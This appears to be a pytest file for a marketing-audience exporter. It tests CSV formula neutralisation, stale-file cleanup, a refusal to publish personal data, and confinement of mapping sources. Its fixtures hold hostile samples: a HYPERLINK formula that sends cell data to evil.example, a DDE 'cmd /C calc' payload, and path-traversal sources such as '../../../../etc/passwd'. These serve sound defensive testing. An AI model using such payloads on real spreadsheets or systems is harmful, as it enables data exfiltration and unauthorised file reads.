"""Forget means forget, and nothing leaves after a bad build.

- audience CSV files cannot carry spreadsheet formulas (segmart/outputs);
- the audience folder holds only this build's files (segmart/run.py);
- publish refuses schemas and tables with personal data (segmart/publish.py);
- a mapping's source stays inside the exports folder (segmart/adapters/mapping.py).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from segmart.outputs import FORMATS, HASHED_FORMATS, write_audience

# --- 1. spreadsheet formula injection -----------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

EVIL_ROW = {
    "email": "ada@example.com",
    "phone": "+1 415 555 0123",
    "first_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "last_name": "+SUM(1,2)",
    "country": "US",
    "segment_name": "@evil_segment",
    "offer_hint": "-10% cmd|' /C calc'!A0",
}


def read_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def starts_with_trigger(value: str) -> bool:
    return value.startswith(TRIGGERS)


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_free_text_cells_are_neutralised_and_phones_stay_e164(tmp_path, fmt):
    path = tmp_path / f"{fmt}.csv"
    built = write_audience([EVIL_ROW], fmt, path)
    header, rows = read_rows(path)
    assert len(rows) == 1, built.skipped
    (row,) = rows
    for column, value in row.items():
        if "phone" in column.lower() and fmt not in HASHED_FORMATS:
            assert value == "+14155550123", (column, value)  # usable E.164, as is
        else:
            assert not starts_with_trigger(value), (fmt, column, value)
    if fmt in HASHED_FORMATS:
        return
    first = next(c for c in header if c == "First Name")
    assert row[first] == "'" + EVIL_ROW["first_name"]
    assert row["Last Name"] == "'+SUM(1,2)"
    segment_column = {"klaviyo": "segmart_segment", "hubspot": "segmart_segment"}
    assert row[segment_column.get(fmt, "Tags")] == "'@evil_segment"
    offer_column = {"mailchimp": "Offer Hint", "activecampaign": "Offer Hint"}
    assert row[offer_column.get(fmt, "segmart_offer_hint")] == (
        "'" + EVIL_ROW["offer_hint"]
    )


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_owasp_trigger_is_neutralised(tmp_path, trigger):
    # a tab or carriage return inside the value (leading whitespace is trimmed)
    row = {**EVIL_ROW, "offer_hint": f"{trigger}cmd", "first_name": f"x{trigger}"}
    path = tmp_path / "k.csv"
    write_audience([row], "klaviyo", path)
    _, (written,) = read_rows(path)
    expected = "'" + f"{trigger}cmd" if trigger not in "\t\r" else "cmd"
    assert written["segmart_offer_hint"] == expected
    assert written["First Name"] == f"x{trigger}".strip()  # not at the start: as is


def test_neutralise_keeps_ordinary_text_hashes_and_phones():
    from segmart.outputs import is_e164, neutralise

    assert neutralise("early access") == "early access"
    assert neutralise("10% off") == "10% off"
    assert neutralise("a" * 64) == "a" * 64
    for trigger in TRIGGERS:
        assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"
    assert is_e164("+15551234567")
    assert not is_e164("+1 555 123")
    assert not is_e164("=1+15551234567")
    assert not is_e164("15551234567")


def test_emails_starting_with_a_formula_character_are_left_out(tmp_path):
    rows = [
        {**EVIL_ROW, "email": "=1+1@evil.example", "phone": ""},
        {**EVIL_ROW, "email": "-cmd@evil.example"},  # has a phone: kept, no email
        {**EVIL_ROW, "email": "ok@example.com"},
    ]
    built = write_audience(rows, "klaviyo", tmp_path / "k.csv")
    _, written = read_rows(tmp_path / "k.csv")
    assert [r["Email"] for r in written] == ["", "ok@example.com"]
    assert written[0]["Phone Number"] == "+14155550123"
    assert dict(built.skipped) == {"email_starts_with_formula_character": 1}
    assert built.emails_dropped == 1  # written without it; the other is skipped
    mailchimp = write_audience(rows, "mailchimp", tmp_path / "m.csv")
    _, written = read_rows(tmp_path / "m.csv")
    assert [r["Email Address"] for r in written] == ["ok@example.com"]
    assert dict(mailchimp.skipped) == {"email_starts_with_formula_character": 2}
    # the hashed files hash it as normalised: a hash is never a formula
    meta = write_audience(rows, "meta", tmp_path / "meta.csv")
    assert len(meta.rows) == 3


def test_audience_export_command_writes_no_formula(tmp_path):
    from click.testing import CliRunner

    from segmart.cli import main as cli

    source = tmp_path / "audience.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(EVIL_ROW))
        writer.writeheader()
        writer.writerow(EVIL_ROW)
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(
        cli,
        ["audience-export", "--format", "hubspot", "--input", str(source)]
        + ["--out", str(out)],
    )
    assert result.exit_code == 0, result.output
    _, (row,) = read_rows(out)
    assert row["Phone Number"] == "+14155550123"
    assert all(
        not starts_with_trigger(v) for k, v in row.items() if k != "Phone Number"
    )


# --- 2. no stale audience files -----------------------------------------------------


def audience_db(path: Path, members: list[tuple[str, str, str]]) -> Path:
    """A database with activation.audience_members (segment, channel, email)."""
    import duckdb

    path.unlink(missing_ok=True)
    with duckdb.connect(str(path)) as con:
        con.execute("create schema activation")
        con.execute(
            "create table activation.audience_members (segment_name varchar,"
            " channel varchar, email varchar, phone varchar, first_name varchar,"
            " country varchar, offer_hint varchar)"
        )
        for segment, channel, email in members:
            con.execute(
                "insert into activation.audience_members values"
                " (?, ?, ?, '+15551234567', 'Ann', 'US', '')",
                [segment, channel, email],
            )
    return path


def folder(out: Path) -> dict[str, str]:
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(out.iterdir())}


OTHER_FILES = {
    "notes.csv": "mine\n",
    "champions__email.csv.bak": "a backup\n",
    "my__notes.csv": "not a channel\n",
    "README.txt": "hello\n",
}


def test_a_segment_that_became_empty_loses_its_file(tmp_path):
    from segmart.run import export_audiences

    out = tmp_path / "audiences"
    out.mkdir()
    for name, text in OTHER_FILES.items():
        (out / name).write_text(text)
    first = audience_db(
        tmp_path / "first.duckdb",
        [
            ("champions", "email", "ann@example.com"),
            ("champions", "sms", "ann@example.com"),
            ("win_back", "email", "bob@example.com"),
            ("win_back", "paid_social", "bob@example.com"),
        ],
    )
    written = export_audiences(first, out)
    assert sorted(p.name for p in written) == [
        "champions__email.csv",
        "champions__sms.csv",
        "win_back__email.csv",
        "win_back__paid_social.csv",
    ]
    # bob unsubscribed: win_back is empty on every channel, champions has no sms
    second = audience_db(
        tmp_path / "second.duckdb", [("champions", "email", "ann@example.com")]
    )
    written = export_audiences(second, out)
    assert [p.name for p in written] == ["champions__email.csv"]
    after = folder(out)
    assert sorted(after) == sorted(["champions__email.csv", *OTHER_FILES])
    assert "bob@example.com" not in "".join(after.values())
    for name, text in OTHER_FILES.items():
        assert after[name] == text  # never touched

    # a build with no audience at all leaves no audience file
    empty = audience_db(tmp_path / "empty.duckdb", [])
    assert export_audiences(empty, out) == []
    assert folder(out) == OTHER_FILES


def test_a_failed_export_leaves_the_folder_as_it_was(tmp_path, monkeypatch):
    import segmart.outputs
    from segmart.run import export_audiences

    out = tmp_path / "audiences"
    old = audience_db(
        tmp_path / "old.duckdb",
        [
            ("champions", "email", "old@example.com"),
            ("win_back", "email", "old@example.com"),
        ],
    )
    export_audiences(old, out)
    before = folder(out)
    new = audience_db(
        tmp_path / "new.duckdb",
        [
            ("champions", "email", "new@example.com"),
            ("loyal", "email", "new@example.com"),
        ],
    )
    real = segmart.outputs.write_audience
    calls = []

    def failing(rows, fmt, path, default_country=None):
        calls.append(path)
        if len(calls) == 2:
            raise OSError("disk full")
        return real(rows, fmt, path, default_country)

    monkeypatch.setattr(segmart.outputs, "write_audience", failing)
    with pytest.raises(OSError, match="disk full"):
        export_audiences(new, out)
    assert folder(out) == before  # no new file, none replaced, none removed
    assert not any(p.name.startswith(".") for p in out.iterdir())


def test_audience_names_cannot_leave_the_folder(tmp_path):
    from segmart.run import export_audiences

    out = tmp_path / "deep" / "audiences"
    db = audience_db(tmp_path / "bad.duckdb", [("../../x", "email", "a@example.com")])
    with pytest.raises(ValueError, match="names must be"):
        export_audiences(db, out)
    assert not (tmp_path / "x__email.csv").exists()


# --- 3. publish refuses personal data ------------------------------------------------


@pytest.mark.parametrize(
    "schema", ["staging", "quality", "intermediate", "activation", "raw"]
)
def test_publish_refuses_a_schema_with_personal_data(hand, tmp_path, schema):
    from click.testing import CliRunner

    from segmart.cli import main as cli

    out = tmp_path / "published"
    result = CliRunner().invoke(
        cli,
        ["publish", "--db", str(hand.db_path), "--to", str(out), "--schema", schema],
    )
    assert result.exit_code != 0, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1, result.output  # one clear line
    assert schema in lines[0] and "personal" in lines[0]
    assert not out.exists() or not any(p.name != ".publish.lock" for p in out.iterdir())


def test_publish_of_the_marts_of_a_real_build_holds_no_personal_column(hand, tmp_path):
    import duckdb

    from segmart import publish as pub

    done = pub.publish(hand.db_path, tmp_path / "published", to_parquet=False)
    assert done.tables
    with duckdb.connect(str(done.duckdb_path), read_only=True) as con:
        columns = {
            r[0]
            for r in con.execute(
                "select lower(column_name) from information_schema.columns"
            ).fetchall()
        }
    assert not columns & pub.PERSONAL_COLUMNS


@pytest.mark.parametrize("column", ["email", "Phone", "first_name", "postal_code"])
def test_publish_refuses_a_mart_with_a_personal_column(tmp_path, column):
    import duckdb

    from segmart import publish as pub
    from tests_py.test_publish import make_work_db

    work = tmp_path / "work.duckdb"
    make_work_db(work, customers=3)
    with duckdb.connect(str(work)) as con:
        con.execute(
            f"create table main.leaky as select 1 as customer_id, 'x' as \"{column}\""
        )
    out = tmp_path / "published"
    with pytest.raises(pub.PublishError, match=rf"main\.leaky \({column}\)"):
        pub.publish(work, out)
    assert not out.exists()


def test_publish_refuses_a_column_tagged_pii_in_the_manifest(tmp_path):
    import json

    from segmart import publish as pub
    from tests_py.test_publish import make_work_db

    work = tmp_path / "work.duckdb"
    make_work_db(work, customers=3)
    manifest = tmp_path / "manifest.json"
    node = {
        "resource_type": "model",
        "schema": "main",
        "name": "customer_profile",
        "alias": "customer_profile",
        "columns": {
            "customer_key": {"name": "customer_key", "meta": {}},
            "recency_score": {
                "name": "recency_score",
                "config": {"meta": {"pii": True}},
            },
        },
    }
    manifest.write_text(json.dumps({"nodes": {"model.x.customer_profile": node}}))
    out = tmp_path / "published"
    with pytest.raises(pub.PublishError, match=r"main\.customer_profile \(recency"):
        pub.publish(work, out, manifest=manifest)
    assert not out.exists()
    # untagged, the same database publishes
    node["columns"]["recency_score"] = {"name": "recency_score"}
    manifest.write_text(json.dumps({"nodes": {"model.x.customer_profile": node}}))
    assert pub.publish(work, out, manifest=manifest).tables


# --- 4. a mapping's source stays inside the exports folder ---------------------------

SHEET = "Name,E-mail,Joined\nAl,al@example.com,2026-01-01\n"


def exports_with_secret(tmp_path: Path) -> tuple[Path, Path]:
    """An exports folder, and a CSV outside it that a mapping must not read."""
    raw = tmp_path / "exports"
    raw.mkdir()
    secret = tmp_path / "secret" / "customers_of_another_shop.csv"
    secret.parent.mkdir()
    secret.write_text(SHEET)
    return raw, secret


def write_mapping(folder: Path, source: str, name: str = "sheet.mapping.yml") -> Path:
    path = folder / name
    path.write_text(
        f"source: '{source}'\ntarget: customers\ncolumns:\n"
        "  customer_id: Name\n  email: E-mail\n  created_at: Joined\n"
    )
    return path


def outside_sources(tmp_path: Path) -> list[tuple[str, Path]]:
    raw, secret = exports_with_secret(tmp_path)
    (raw / "linked.csv").symlink_to(secret)
    return [
        ("../secret/customers_of_another_shop.csv", secret),
        (str(secret), secret),  # absolute
        ("linked.csv", secret),  # a symlink out
        ("../../../../../../../../etc/passwd", Path("/etc/passwd")),
    ]


@pytest.mark.parametrize("case", range(4))
def test_a_mapping_source_outside_the_exports_folder_is_refused(tmp_path, case):
    from segmart.adapters import MappingError, convert, load_mapping

    source, target = outside_sources(tmp_path)[case]
    raw = tmp_path / "exports"
    mapping = write_mapping(raw, source)
    with pytest.raises(MappingError) as caught:
        load_mapping(mapping, (raw,))
    message = str(caught.value)
    assert "sheet.mapping.yml" in message
    assert "outside the exports folder" in message
    assert str(target.resolve()) in message
    with pytest.raises(MappingError, match="outside the exports folder"):
        convert(raw, tmp_path / "out")
    assert not (tmp_path / "out" / "customers.csv").exists()


def test_convert_command_names_the_mapping_and_the_path(tmp_path):
    import click
    from click.testing import CliRunner

    from segmart.cli.adapters import register

    @click.group()
    def cli() -> None:
        pass

    register(cli)
    raw, secret = exports_with_secret(tmp_path)
    write_mapping(raw, "../secret/customers_of_another_shop.csv")
    result = CliRunner().invoke(cli, ["convert", str(raw), "--out", str(tmp_path)])
    assert result.exit_code == 1
    assert "sheet.mapping.yml" in result.output and str(secret) in result.output
    # a mapping given with --mapping from elsewhere reads only the exports folder
    elsewhere = tmp_path / "secret"
    (raw / "sheet.mapping.yml").unlink()
    extra = write_mapping(elsewhere, "customers_of_another_shop.csv", "x.mapping.yml")
    result = CliRunner().invoke(
        cli, ["convert", str(raw), "--out", str(tmp_path), "--mapping", str(extra)]
    )
    assert result.exit_code == 1
    assert "x.mapping.yml" in result.output and "outside" in result.output


def test_a_source_inside_the_exports_folder_still_loads(tmp_path):
    from segmart.adapters import load_mapping

    raw, _ = exports_with_secret(tmp_path)
    (raw / "sheets").mkdir()
    (raw / "sheets" / "real.csv").write_text(SHEET)
    (raw / "alias.csv").symlink_to(raw / "sheets" / "real.csv")  # a link inside
    for source in ("sheets/real.csv", "alias.csv", "sheets/../sheets/real.csv"):
        mapping = load_mapping(write_mapping(raw, source), (raw,))
        assert mapping.source.resolve() == (raw / "sheets" / "real.csv").resolve()
    # kept elsewhere (mappings/), its source found in the exports folder
    elsewhere = tmp_path / "mappings"
    elsewhere.mkdir()
    mapping = load_mapping(write_mapping(elsewhere, "alias.csv"), (raw,))
    assert mapping.source == raw / "alias.csv"
